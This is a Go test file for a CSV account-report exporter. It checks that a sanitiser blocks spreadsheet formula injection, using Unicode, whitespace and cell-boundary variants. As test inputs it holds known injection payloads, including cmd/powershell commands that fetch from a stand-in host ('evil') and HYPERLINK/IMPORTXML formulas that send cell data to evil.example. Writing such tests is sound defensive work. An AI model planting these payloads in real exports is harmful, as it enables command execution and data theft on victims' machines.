package account

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/auth-gateway/caddy-auth-gateway/module/identity"
	"github.com/auth-gateway/caddy-auth-gateway/module/store"
)

func TestNoFormula(t *testing.T) {
	for _, tc := range []struct{ name, text, want string }{
		// OWASP, "CSV Injection", and the payloads that are passed around.
		{"equals", "=1+1", "'=1+1"},
		{"plus", "+1+1", "'+1+1"},
		{"minus", "-1+1", "'-1+1"},
		{"at", "@SUM(1+1)", "'@SUM(1+1)"},
		{"tab", "\t=1+1", "'\t'=1+1"},
		{"tab before text", "\tAlice", "'\tAlice"},
		{"carriage return", "\r=1+1", "'\r'=1+1"},
		{"line feed", "\n=1+1", "'\n'=1+1"},
		{"zero byte (ASVS 1.2.10)", "\x00=1+1", "'\x00=1+1"},
		{"a program", `=cmd|'/C calc'!A0`, `'=cmd|'/C calc'!A0`},
		{"a program that hides", `@SUM(1+9)*cmd|' /C calc'!A0`, `'@SUM(1+9)*cmd|' /C calc'!A0`},
		{"a program behind a sign", `+cmd|'/C powershell IEX(wget evil/x)'!A0`, `'+cmd|'/C powershell IEX(wget evil/x)'!A0`},
		{"dynamic data exchange", `=DDE("cmd";"/C calc";"!A0")`, `'=DDE("cmd";"/C calc";"!A0")`},
		{"what leaks", `=HYPERLINK("http://evil.example/?"&A1,"Error")`, `'=HYPERLINK("http://evil.example/?"&A1,"Error")`},
		{"what leaks by itself", `=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")`, `'=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")`},
		{"an address", "=1+1@example.test", "'=1+1@example.test"},
		{"a quoted address", `"=1+1"@example.test`, `'"=1+1"'@example.test`},

		// Full-width, as Japanese Excel reads it, and other forms.
		{"full-width equals", "＝1+1", "'＝1+1"},
		{"full-width plus", "＋1", "'＋1"},
		{"full-width minus", "－1", "'－1"},
		{"full-width at", "＠SUM(1)", "'＠SUM(1)"},
		{"small equals", "﹦1+1", "'﹦1+1"},
		{"mathematical minus", "−1+1", "'−1+1"},

		// What comes first and is not seen.
		{"space", " =1+1", "' =1+1"},
		{"no-break space", "\u00a0=1+1", "'\u00a0=1+1"},
		{"ideographic space", "\u3000=1+1", "'\u3000=1+1"},
		{"byte order mark", "\ufeff=1+1", "'\ufeff=1+1"},
		{"zero-width space", "\u200b=1+1", "'\u200b=1+1"},
		{"right-to-left override", "\u202e=1+1", "'\u202e=1+1"},
		{"apostrophe", "'=1+1", "''=1+1"},
		{"quote", `"=1+1`, `'"=1+1`},

		// Where another cell may begin.
		{"comma", "a,=1+1", "a,'=1+1"},
		{"semicolon", "a;=1+1", "a;'=1+1"},
		{"semicolon and space", "a; =1+1", "a;' =1+1"},
		{"bar", "a|=1+1", "a|'=1+1"},
		{"tab within", "a\t@SUM(1)", "a\t'@SUM(1)"},
		{"line within", "a\r\n-1+1", "a\r\n'-1+1"},
		{"line separator", "a\u2028=1+1", "a\u2028'=1+1"},
		{"quote and comma", `a","=1+1`, `a",'"=1+1`},
		{"quote within", `a"=1+1`, `a"'=1+1`},
		{"quotes within", `a""=1+1`, `a""'=1+1`},
		{"several", "=1;+1,-1", "'=1;'+1,'-1"},
		{"not UTF-8", "\xff;=1", "\xff;'=1"},

		// What is harmless stays as it is.
		{"nothing", "", ""},
		{"hyphen", "Anna-Maria Müller-Lüdenscheidt", "Anna-Maria Müller-Lüdenscheidt"},
		{"apostrophes", "Conan O'Brien, d'Artagnan", "Conan O'Brien, d'Artagnan"},
		{"apostrophe and hyphen", "Rock 'n'-Roll, 'n' - Roll", "Rock 'n'-Roll, 'n' - Roll"},
		{"subaddress", "alice+reports@example.test", "alice+reports@example.test"},
		{"comma", "Example, Alice", "Example, Alice"},
		{"nickname", `Alice "Al" Example`, `Alice "Al" Example`},
		{"nickname and a dash", `Alice "Al" - Example`, `Alice "Al" - Example`},
		{"Japanese", "山田　太郎＝スミス", "山田　太郎＝スミス"},
		{"a time", "2030-01-02T03:04:05Z", "2030-01-02T03:04:05Z"},
		{"a space", " Alice", " Alice"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := noFormula(tc.text); got != tc.want {
				t.Errorf("%q became %q, want %q", tc.text, got, tc.want)
			}
		})
	}
}

// However a spreadsheet cuts a report into cells, none begins a formula, and a
// reader of CSV finds the columns that were written.
func FuzzReportCSV(f *testing.F) {
	for _, name := range []string{"Alice", "=1+1", `a","=1+1`, "\t;@x", "' \u200b＝1", "a\r\n\"-1", "\xff|+"} {
		f.Add(name, "alice@example.test")
	}
	f.Fuzz(func(t *testing.T, name, email string) {
		var b strings.Builder
		report, err := NewReportCSV(&b)
		if err != nil {
			t.Fatal(err)
		}
		if err := report.Write([]FactorStatus{{Name: name, Email: email}}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
		if err != nil || len(rows) != 2 || len(rows[1]) != len(reportColumns) {
			t.Fatalf("%q: %v, %v", b.String(), rows, err)
		}
		ends := func(r rune) bool { return strings.ContainsRune(cellEnds, r) }
		for _, line := range []string{b.String(), strings.Join(rows[1], ",")} {
			for _, cell := range strings.FieldsFunc(line, ends) {
				cell = strings.TrimLeftFunc(cell, func(r rune) bool { return overlooked(r) || r == '"' })
				if first, _ := utf8.DecodeRuneInString(cell); cell != "" && strings.ContainsRune(formulaStarts, first) {
					t.Fatalf("%q holds the cell %q", line, cell)
				}
			}
		}
	})
}

func TestReportCSV(t *testing.T) {
	at := time.Date(2030, 1, 2, 12, 4, 5, 678, time.FixedZone("JST", 9*60*60))
	var b strings.Builder
	report, err := NewReportCSV(&b)
	if err != nil {
		t.Fatal(err)
	}
	for _, page := range [][]FactorStatus{
		{
			{
				Name: "山田, 太郎", Email: "=taro@example.test", Role: identity.Admin,
				Methods: []store.Method{store.MethodEmail, store.MethodApp}, SetUpBy: ByChoice,
				Since: at, LastUsed: at.Add(time.Hour), LastSignIn: at.Add(2 * time.Hour),
				HasPassword: true, RecoveryCodesLeft: 9,
			},
			{Name: `"Al"`, Email: "al@example.test", Role: identity.Agent, Suspended: true},
		},
		nil,
	} {
		if err := report.Write(page); err != nil {
			t.Fatal(err)
		}
	}
	want := strings.Join([]string{
		"name,email,role,method,set_up_by,since,last_used,last_sign_in,has_password,recovery_codes_left,suspended",
		`"山田, 太郎",'=taro@example.test,admin,email app,choice,2030-01-02T03:04:05Z,2030-01-02T04:04:05Z,2030-01-02T05:04:05Z,yes,9,no`,
		`"""Al""",al@example.test,agent,none,,,,,no,0,yes`,
		"",
	}, "\r\n")
	if b.String() != want {
		t.Errorf("%s, want %s", b.String(), want)
	}
	if rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll(); err != nil || !slices.Equal(rows[0], reportColumns) {
		t.Errorf("%v, %v", rows, err)
	}
}
